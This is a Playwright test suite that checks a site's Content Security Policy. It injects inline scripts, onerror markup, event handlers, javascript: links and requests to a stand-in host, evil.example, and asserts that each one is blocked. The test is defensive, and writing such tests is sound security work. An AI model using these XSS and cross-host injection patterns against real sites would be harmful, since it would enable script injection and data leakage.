import type { Page } from '@playwright/test';

import { serveAt, type RunningSite } from '../../scripts/serve';
import { expect, test } from './fixtures';
import { renderAllParts } from './helpers/screenText';

/**
 * Every test of this suite fails at the first policy violation (see fixtures.ts). screens.spec.ts opens
 * every page and all that opens on it, map.spec.ts the map, supportRoom.spec.ts the support room.
 */

const violations = (page: Page): Promise<string[]> =>
  page.evaluate(() => (window as unknown as { violations: string[] }).violations);

test.describe('on a server that sends no headers, the policy in the documents', () => {
  let bare: RunningSite;
  test.beforeAll(async ({ servers: { site } }) => {
    bare = await serveAt(0, async ({ url, headers }) => {
      const { pathname } = new URL(url);
      const reply = await fetch(site.url + pathname, {
        headers: { accept: headers.get('accept') ?? '' },
      });
      const type = reply.headers.get('content-type') ?? '';
      return new Response(reply.body, { status: reply.status, headers: { 'content-type': type } });
    });
  });
  test.afterAll(() => bare.close());

  test('is not violated, and blocks inline code, in prerendered and other documents', async ({
    page,
    allowConsole,
  }) => {
    allowConsole(/./);
    const heading = page.getByRole('heading', { level: 1 });
    for (const address of ['/', '/login']) {
      await page.goto(bare.url + address);
      await expect(heading).toHaveCount(1);
      await renderAllParts(page);
      expect(await violations(page)).toEqual([]);
      await page.evaluate(() => {
        const style = document.createElement('style');
        style.append('body { display: none }');
        document.head.append(style);
        document.body.setAttribute('style', 'display: none');
        const link = document.createElement('a');
        link.setAttribute('href', 'javascript:window.hacked = true');
        document.body.append(link);
        link.click();
      });
      for (const directive of ['style-src-elem', 'style-src-attr', 'script-src-elem'])
        await expect.poll(async () => (await violations(page)).join()).toContain(directive);
      expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
      await expect(heading).toBeVisible();
    }
  });
});

/** Runs in the page: adds an element. */
function put(tag: string, properties: object, ...children: string[]): HTMLElement {
  const element = Object.assign(document.createElement(tag), properties);
  element.append(...children);
  document.body.append(element);
  return element;
}

const SCRIPTS = 'require-trusted-types-for';
const EVIL = 'https://evil.example/';

/** Attempts on a page, with the directive that blocks each. */
const ATTEMPTS: [what: string, directive: string, how: string][] = [
  ['an inline script', SCRIPTS, `put('script', {}, 'window.hacked = true')`],
  ['a script of another host', SCRIPTS, `put('script', { src: '${EVIL}x.js' })`],
  ['an event handler', SCRIPTS, `document.body.setAttribute('onclick', 'window.hacked = true')`],
  ['markup', SCRIPTS, `document.body.innerHTML += '<img src=x onerror="window.hacked = true">'`],
  ['a text that is run', SCRIPTS, `setTimeout('window.hacked = true')`],
  ['a plug-in', SCRIPTS, `put('object', { data: '${EVIL}x.swf' })`],
  ['a style element', 'style-src-elem', `put('style', {}, 'body { display: none }')`],
  ['a style attribute', 'style-src-attr', `document.body.setAttribute('style', 'display: none')`],
  ['a picture of another host', 'img-src', `put('img', { src: '${EVIL}beacon.png' })`],
  ['a call to another host', 'connect-src', `fetch('${EVIL}').catch(() => undefined)`],
  ['a frame of another host', 'frame-src', `put('iframe', { src: '${EVIL}' })`],
  ['another base address', 'base-uri', `put('base', { href: '${EVIL}' })`],
  ['a form that leaves the site', 'form-action', `put('form', { action: '${EVIL}' }).submit()`],
];

test(`the policy blocks ${ATTEMPTS.map(([what]) => what).join(', ')}`, async ({
  page,
  allowConsole,
}) => {
  allowConsole(/./);
  await page.goto('/terms-condition');
  await page.evaluate(`globalThis.put = ${put.toString()}`);
  for (const [what, directive, how] of ATTEMPTS) {
    const before = (await violations(page)).length;
    await page.evaluate(how).catch(() => undefined);
    await expect
      .poll(async () => (await violations(page)).slice(before).join(), what)
      .toMatch(new RegExp(`(^|,)${directive} `));
    const harm = await page.evaluate(() => ({
      isHacked: 'hacked' in window,
      isHidden: document.querySelector('h1')?.checkVisibility() !== true,
    }));
    expect(harm, what).toEqual({ isHacked: false, isHidden: false });
  }
});
